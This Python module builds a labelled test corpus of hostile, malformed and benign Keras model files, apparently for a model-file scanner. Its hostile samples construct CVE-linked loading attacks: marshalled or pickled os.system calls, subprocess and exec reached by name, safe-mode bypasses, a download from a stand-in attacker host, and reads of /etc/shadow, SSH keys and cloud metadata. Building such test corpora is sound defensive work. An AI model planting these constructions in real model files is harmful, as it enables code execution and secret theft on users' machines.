"""Keras: configurations that call what they name, HDF5 that reads elsewhere, and models as people save them."""

import base64
import json
import marshal
from typing import Any

from tests.corpus import hdf5_bytes as h5
from tests.corpus.archive_writer import zip_file
from tests.corpus.labelled import benign, hostile, malformed
from tests.corpus.sample import Sample

FAMILY = "keras"
Config = dict[str, Any]
METADATA = json.dumps({"keras_version": "3.8.0", "date_saved": "2025-02-03@10:11:12"}).encode()
BYTECODE = base64.b64encode(marshal.dumps(compile("__import__('os').system('echo inert')", "lambda", "eval"))).decode()


def layer(
    class_name: str, config: Config, *, module: str = "keras.layers", registered: str | None = None, **more: object
) -> Config:
    """One layer as Keras 3 writes it."""
    return {
        "module": module,
        "class_name": class_name,
        "config": {"name": class_name.lower(), **config},
        "registered_name": registered,
        **more,
    }


def function(module: str, name: str) -> Config:
    """A function named by its module."""
    return {"module": module, "class_name": "function", "config": name, "registered_name": "function"}


def sequential(*layers: Config, **more: object) -> Config:
    """A Sequential model of these layers behind an input."""
    first = layer("InputLayer", {"batch_shape": [None, 4], "dtype": "float32"})
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "trainable": True, "layers": [first, *layers]},
        "registered_name": None,
        "build_config": {"input_shape": [None, 4]},
        **more,
    }


def functional(*layers: Config, module: str = "keras.src.models.functional") -> Config:
    """A Functional model of these layers."""
    return {
        "module": module,
        "class_name": "Functional",
        "config": {
            "name": "functional",
            "trainable": True,
            "layers": list(layers),
            "input_layers": [["inputs", 0, 0]],
            "output_layers": [["dense", 0, 0]],
        },
        "registered_name": "Functional",
    }


def archive(config: Config, **more: bytes) -> bytes:
    """A .keras file."""
    members = {"metadata.json": METADATA, "config.json": json.dumps(config).encode(), "model.weights.h5": h5.WEIGHTS}
    return zip_file({**members, **more}, packed=False)


DENSE = layer(
    "Dense",
    {
        "units": 2,
        "activation": "relu",
        "use_bias": True,
        "kernel_initializer": {
            "module": "keras.initializers",
            "class_name": "GlorotUniform",
            "config": {"seed": None},
            "registered_name": None,
        },
    },
)
LAMBDA = layer(
    "Lambda",
    {
        "function": {"class_name": "__lambda__", "config": {"code": BYTECODE, "defaults": None, "closure": None}},
        "arguments": {},
    },
)


def called(module: str, name: str, argument: object, **arguments: object) -> Config:
    """A Lambda that calls a named function with `argument` when the graph is rebuilt."""
    return layer(
        "Lambda",
        {"function": function(module, name), "arguments": arguments},
        build_config=None,
        inbound_nodes=[{"args": [argument], "kwargs": {}}],
    )


def evil(name: str, config: Config, note: str, source: str = "", **more: bytes) -> Sample:
    """A hostile .keras file."""
    return hostile("keras-" + name, FAMILY, {"model.keras": archive(config, **more)}, note, source)


def evil_h5(name: str, content: bytes, note: str, source: str = "") -> Sample:
    """A hostile HDF5 file."""
    return hostile("keras-h5-" + name, FAMILY, {"model.h5": content}, note, source)


WRAPPED = layer("TimeDistributed", {"layer": layer("Bidirectional", {"layer": LAMBDA})})
COMPILED = sequential(DENSE, compile_config={"optimizer": "adam", "loss": function("os", "system"), "metrics": None})
TORCH = layer(
    "TorchModuleWrapper",
    {
        "module": {
            "class_name": "__bytes__",
            "config": {"value": base64.b64encode(b"cposix\nsystem\n(S'echo inert'\ntR.").decode()},
        }
    },
)
HOSTILE = (
    evil(
        "lambda-bytecode",
        sequential(LAMBDA, DENSE),
        "Marshalled code in a Lambda layer runs when the model is loaded.",
        "CVE-2024-3660",
    ),
    evil("lambda-wrapped", sequential(WRAPPED), "The same two wrappers deep.", "CVE-2024-3660"),
    evil(
        "lambda-os-system",
        functional(called("os", "system", "echo inert")),
        "A Lambda whose function is os.system by module and name.",
        "CVE-2025-1550",
    ),
    evil(
        "function-subprocess",
        functional(called("subprocess", "run", ["echo", "inert"])),
        "A Lambda whose function is subprocess.run.",
        "CVE-2025-1550",
    ),
    evil(
        "class-by-module",
        functional(layer("Popen", {"args": ["echo", "inert"]}, module="subprocess")),
        "A layer that is a class of subprocess.",
        "CVE-2025-1550",
    ),
    evil(
        "module-walk",
        functional(called("keras.src.backend.common.global_state.os", "system", "echo inert")),
        "Reaches os through a module of Keras that imports it.",
        "CVE-2025-1550",
    ),
    evil("loss-function", COMPILED, "The loss that compiling looks up is os.system.", "CVE-2025-1550"),
    evil(
        "get-file",
        functional(
            called(
                "keras.utils",
                "get_file",
                "model.keras",
                origin="https://203.0.113.30/stage.tar",
                extract=True,
                cache_dir="/tmp",
            )
        ),
        "Loading downloads and unpacks a file of the attacker's.",
        "CVE-2025-8747",
    ),
    evil(
        "enable-unsafe",
        functional(called("keras.config", "enable_unsafe_deserialization", True), LAMBDA),
        "The first layer turns safe mode off, the second one is marshalled code.",
        "CVE-2025-9906",
    ),
    evil(
        "set-global-attribute",
        functional(
            called("keras.src.backend.common.global_state", "set_global_attribute", "safe_mode_saving", value=False),
            called("keras.models", "load_model", "inner.keras", safe_mode=False),
        ),
        "Turns safe mode off by its global name, then loads a second model without it.",
        "CVE-2025-9906",
    ),
    evil(
        "vocabulary-file",
        sequential(layer("StringLookup", {"vocabulary": "/etc/passwd", "num_oov_indices": 1})),
        "A vocabulary that is a file of the machine's users.",
        "CVE-2025-12058",
    ),
    evil(
        "vocabulary-url",
        sequential(layer("TextVectorization", {"vocabulary": "http://169.254.169.254/latest/meta-data/"})),
        "A vocabulary fetched from the cloud's metadata service.",
        "CVE-2025-12058",
    ),
    evil(
        "index-lookup-home",
        sequential(
            layer(
                "IndexLookup",
                {"vocabulary": "../../../home/user/.ssh/id_rsa"},
                module="keras.src.layers.preprocessing.index_lookup",
            )
        ),
        "A vocabulary out of the user's keys.",
        "CVE-2025-12058",
    ),
    evil(
        "tfsm-layer",
        sequential(layer("TFSMLayer", {"filepath": "/tmp/shared/saved_model", "call_endpoint": "serve"})),
        "Loads a SavedModel from a place outside the file, in safe mode too.",
        "CVE-2026-1462",
    ),
    evil(
        "torch-wrapper",
        sequential(TORCH),
        "A pickled torch module inside the configuration: os.system.",
        "CVE-2025-49655",
    ),
    evil(
        "weights-elsewhere",
        sequential(DENSE),
        "The weights are read from /etc/shadow.",
        "CVE-2026-1669",
        **{"model.weights.h5": h5.EXTERNAL_STORAGE},
    ),
    evil(
        "extract-archive",
        functional(called("keras.src.utils.file_utils", "extract_archive", "assets/data.tar", path="/home/user")),
        "Unpacks an archive over the user's home.",
        "CVE-2025-12060",
    ),
    evil(
        "optimizer-exec",
        sequential(
            DENSE,
            compile_config={
                "optimizer": {
                    "module": "builtins",
                    "class_name": "exec",
                    "config": {"source": "print('inert')"},
                    "registered_name": "exec",
                }
            },
        ),
        "An optimizer that is exec.",
        "CVE-2025-1550",
    ),
    hostile(
        "keras-json-lambda",
        FAMILY,
        {
            "model.json": json.dumps(
                {
                    "class_name": "Sequential",
                    "config": {"name": "s", "layers": [LAMBDA]},
                    "keras_version": "2.15.0",
                    "backend": "tensorflow",
                }
            )
        },
        "The architecture alone as JSON, with code in a Lambda.",
        "CVE-2024-3660",
    ),
    evil_h5(
        "lambda", h5.LAMBDA, "Marshalled code in the attribute model_config; safe mode is ignored.", "CVE-2025-9905"
    ),
    evil_h5("lambda-nested", h5.NESTED_LAMBDA, "The same in a model in a wrapper in a model.", "CVE-2025-9905"),
    evil_h5("external-link", h5.EXTERNAL_LINK, "A group linked to /etc/passwd.", "CVE-2026-1669"),
    evil_h5("external-storage", h5.EXTERNAL_STORAGE, "A dataset stored in /etc/shadow.", "CVE-2026-1669"),
    evil_h5(
        "parent-storage", h5.PARENT_STORAGE, "A dataset stored in a private key, by a relative path.", "CVE-2026-1669"
    ),
    evil_h5("virtual", h5.VIRTUAL, "A virtual dataset out of a file of cloud credentials.", "CVE-2026-1669"),
    evil_h5("script-ahead", h5.SCRIPT_AHEAD, "The user block is a shell script that fetches and runs another."),
)
BROKEN = (
    malformed(
        "keras-config-cut",
        FAMILY,
        {
            "model.keras": zip_file(
                {"metadata.json": METADATA, "config.json": json.dumps(sequential(DENSE)).encode()[:-30]}
            )
        },
        "The configuration stops in the middle.",
    ),
    malformed("keras-h5-cut", FAMILY, {"model.h5": h5.DENSE[:4000]}, "Cut off at 4,000 of 9,368 bytes."),
    malformed(
        "keras-h5-end-cut", FAMILY, {"model.weights.h5": h5.WEIGHTS[:-2000]}, "The last 2,000 bytes are missing."
    ),
    malformed(
        "keras-h5-superblock",
        FAMILY,
        {"model.h5": h5.DENSE[:8] + b"\x2a" + h5.DENSE[9:]},
        "A superblock of a version that does not exist.",
    ),
)


def good(name: str, config: Config, note: str, **more: bytes) -> Sample:
    """A .keras file as people save them."""
    return benign("keras-" + name, FAMILY, {"model.keras": archive(config, **more)}, note)


def node(name: str) -> list[Config]:
    """How a layer of a Functional model is fed by another."""
    return [
        {
            "args": [
                {
                    "class_name": "__keras_tensor__",
                    "config": {"shape": [None, 4], "dtype": "float32", "keras_history": [name, 0, 0]},
                }
            ],
            "kwargs": {},
        }
    ]


INPUTS = layer("InputLayer", {"name": "inputs", "batch_shape": [None, 4]}, inbound_nodes=[])
BENIGN = (
    good(
        "sequential", sequential(DENSE, layer("Dropout", {"rate": 0.5}), layer("Dense", {"units": 1})), "Dense layers."
    ),
    good(
        "functional",
        functional(INPUTS, {**DENSE, "inbound_nodes": node("inputs")}, layer("Add", {}, inbound_nodes=node("inputs"))),
        "Two branches added.",
    ),
    good(
        "lstm",
        sequential(
            layer("Embedding", {"input_dim": 1000, "output_dim": 16}),
            layer("Bidirectional", {"layer": layer("LSTM", {"units": 32, "return_sequences": True})}),
            DENSE,
        ),
        "Embedding, a wrapped LSTM, Dense.",
    ),
    good(
        "compiled",
        sequential(
            DENSE,
            compile_config={
                "optimizer": {
                    "module": "keras.optimizers",
                    "class_name": "AdamW",
                    "config": {
                        "learning_rate": {
                            "module": "keras.optimizers.schedules",
                            "class_name": "CosineDecay",
                            "config": {"decay_steps": 100},
                            "registered_name": None,
                        }
                    },
                    "registered_name": None,
                },
                "loss": {
                    "module": "keras.losses",
                    "class_name": "SparseCategoricalCrossentropy",
                    "config": {"from_logits": True},
                    "registered_name": None,
                },
                "metrics": ["accuracy"],
                "jit_compile": False,
            },
        ),
        "Compiled with an optimizer, its schedule, a loss and a metric.",
    ),
    good(
        "registered",
        sequential(
            layer("GatedUnit", {"units": 8}, module="my_package.layers", registered="my_package>GatedUnit"), DENSE
        ),
        "A layer that its publisher registered under a package of their own.",
    ),
    good(
        "vocabulary-inline",
        sequential(
            layer("StringLookup", {"vocabulary": ["cat", "dog", "os.system"]}),
            layer("TextVectorization", {"max_tokens": 100, "standardize": "lower_and_strip_punctuation"}),
        ),
        "A vocabulary written out, one word of which looks like a call.",
    ),
    good(
        "image-augment",
        sequential(
            layer("Rescaling", {"scale": 0.00392}),
            layer("RandomFlip", {"mode": "horizontal"}),
            layer("Conv2D", {"filters": 8, "kernel_size": [3, 3], "padding": "same"}),
            layer("BatchNormalization", {}),
            layer("GlobalAveragePooling2D", {}),
            layer("Activation", {"activation": "softmax"}),
        ),
        "An image classifier.",
    ),
    good(
        "hub-backbone",
        {
            "module": "keras_hub.src.models.bert.bert_backbone",
            "class_name": "BertBackbone",
            "config": {
                "name": "bert_backbone",
                "vocabulary_size": 30522,
                "num_layers": 2,
                "num_heads": 2,
                "hidden_dim": 128,
                "intermediate_dim": 512,
                "dtype": {
                    "module": "keras",
                    "class_name": "DTypePolicy",
                    "config": {"name": "float32"},
                    "registered_name": None,
                },
            },
            "registered_name": "keras_hub>BertBackbone",
        },
        "A backbone of the model hub's package.",
    ),
    benign("keras-h5-dense", FAMILY, {"model.h5": h5.DENSE}, "Saved by Keras 2."),
    benign("keras-h5-lstm", FAMILY, {"model.h5": h5.LSTM}, "Saved by Keras 2."),
    benign("keras-h5-latest", FAMILY, {"model.h5": h5.LATEST}, "The same with the newest headers of HDF5."),
    benign("keras-h5-weights", FAMILY, {"model.weights.h5": h5.WEIGHTS}, "Weights alone."),
    benign("keras-h5-dataset", FAMILY, {"digits.h5": h5.DATASET}, "Training data, compressed; no model at all."),
    benign(
        "keras-h5-operation",
        FAMILY,
        {"model.h5": h5.TRANSFORM},
        "A TFOpLambda: the name of a TensorFlow function, and no code.",
    ),
)
SAMPLES = (*HOSTILE, *BROKEN, *BENIGN)
